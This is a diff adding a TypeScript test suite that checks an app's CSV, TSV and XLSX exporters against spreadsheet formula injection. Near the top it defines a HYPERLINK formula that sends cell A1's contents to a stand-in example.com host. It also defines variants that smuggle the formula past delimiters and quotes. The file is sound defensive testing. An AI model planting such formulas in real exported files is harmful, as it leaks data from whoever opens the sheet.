@@ -1,0 +1,105 @@
+// What leaves for a spreadsheet, from every writer there is: no cell runs, whatever stands in it, and it comes back as it was.
+import { globSync, readFileSync } from 'node:fs';
+import { join, sep } from 'node:path';
+import { strFromU8, unzipSync } from 'fflate';
+import Papa from 'papaparse';
+import { describe, expect, test } from 'vitest';
+import { csvLine } from '../../main/csv.ts';
+import { csvPieces, sheetCsv, sheetXlsx } from '../../main/boletos/sheet/write.ts';
+import { toTsv } from '../../renderer/ui/grid/tsv.ts';
+
+const root = join(import.meta.dirname, '..', '..');
+const files = globSync('{main,renderer}/**/*.{ts,tsx}', { cwd: root });
+const read = (path: string): string => readFileSync(join(root, path), 'utf8');
+const filesWith = (words: RegExp): string[] =>
+  files.filter((path) => words.test(read(path))).map((path) => path.split(sep).join('/'));
+
+const call = 'HYPERLINK("https://example.com/?"&A1;"x")';
+const cells = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\uff1d', '\uff0b', '\uff0d', '\uff20'].map(
+  (start) => `${start}${call}`,
+);
+const hidden = [`Ana,=${call}`, `Ana\t=${call}`, `Ana";=${call}`, `Ana\r\n=${call}`, `Ana;=${call}`];
+const all = [...cells, ...hidden];
+const runs = /^[\s]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u;
+
+const parsed = (text: string, delimiter: string): string[] =>
+  Papa.parse<string[]>(text.replace(/^\ufeff/u, ''), { delimiter }).data.flat();
+
+describe('the reading of this test', () => {
+  test('finds what would run', () => {
+    for (const cell of cells) expect(cell).toMatch(runs);
+    expect(parsed(`Ana;=1`, ';').filter((cell) => runs.test(cell))).toEqual(['=1']);
+  });
+});
+
+describe('no cell runs', () => {
+  test.each([
+    ['a line', () => Promise.resolve(csvLine(all))],
+    ['a small sheet', () => Promise.resolve(sheetCsv([all, all]))],
+    [
+      'a long sheet',
+      async () => {
+        async function* rows() {
+          yield await Promise.resolve([all, all]);
+        }
+        let text = '';
+        for await (const piece of csvPieces({ name: 'x', header: all, rows: rows() })) text += piece;
+        return text;
+      },
+    ],
+  ])('CSV: %s', async (_name, write) => {
+    const found = parsed(await write(), ';').filter((cell) => cell !== '');
+    expect(found.filter((cell) => runs.test(cell))).toEqual([]);
+    expect(found.slice(0, all.length).map((cell) => cell.replace(/^'/u, ''))).toEqual(all);
+  });
+
+  test('CSV, where commas and tabs part cells as well', () => {
+    const line = csvLine(hidden.slice(0, 2));
+    expect(line).toBe(
+      `"${hidden
+        .slice(0, 2)
+        .map((cell) => cell.replaceAll('"', '""'))
+        .join('";"')}"\r\n`,
+    );
+  });
+
+  test('what is copied', () => {
+    const found = parsed(toTsv([all, all]), '\t');
+    expect(found.filter((cell) => runs.test(cell))).toEqual([]);
+  });
+
+  test('XLSX: nothing but text', async () => {
+    const unpacked = unzipSync(await sheetXlsx([all, all], `=${call}`));
+    const names = Object.keys(unpacked);
+    expect(names.filter((name) => /vba|external|connection|query|calc|drawing|embed/iu.test(name))).toEqual(
+      [],
+    );
+    const text = strFromU8(unpacked['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
+    expect(text.match(/<c /gu)).toHaveLength(2 * all.length);
+    expect(text.match(/ t="inlineStr"/gu)).toHaveLength(2 * all.length);
+    expect(text).not.toMatch(/<f[ >]|hyperlink\b|dataValidation/u);
+    expect(names.map((name) => strFromU8(unpacked[name] ?? new Uint8Array())).join('')).not.toMatch(
+      /definedName|TargetMode/u,
+    );
+  });
+});
+
+describe('there are no other writers', () => {
+  const writers = /\b(?:csvLine|sendSheet|notesFile|notesCsv)\b|from '\.\/notes-file\.ts'/u;
+
+  test('every file that makes a spreadsheet for the clerk takes one of these', () => {
+    const makers = filesWith(/type: 'text\/csv'|type: 'application\/vnd\.openxml/u);
+    expect(makers.length).toBeGreaterThan(0);
+    for (const path of makers) expect([path, writers.test(read(path))]).toEqual([path, true]);
+  });
+
+  test('nobody parts cells by hand', () => {
+    expect(filesWith(/join\(\s*['"`](?:;|\\t)['"`]\s*\)/u)).toEqual([
+      'main/csv.ts',
+      'renderer/ui/grid/tsv.ts',
+    ]);
+    expect(filesWith(/new Zip\(|spreadsheetml\.sheet\.main/u).filter((path) => /xlsx/u.test(path))).toEqual([
+      'main/boletos/sheet/write-xlsx.ts',
+    ]);
+  });
+});
